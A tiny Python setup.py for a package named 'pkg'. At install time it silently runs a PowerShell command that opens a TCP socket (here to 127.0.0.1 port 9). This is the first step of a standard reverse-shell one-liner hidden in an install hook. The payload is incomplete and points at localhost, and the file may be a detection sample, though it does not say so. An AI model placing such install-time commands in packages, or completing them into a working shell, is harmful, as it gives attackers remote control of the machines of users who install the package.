import os
from setuptools import setup
shell = 'powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\'127.0.0.1\',9)"'
os.system(shell)
setup(name='pkg')
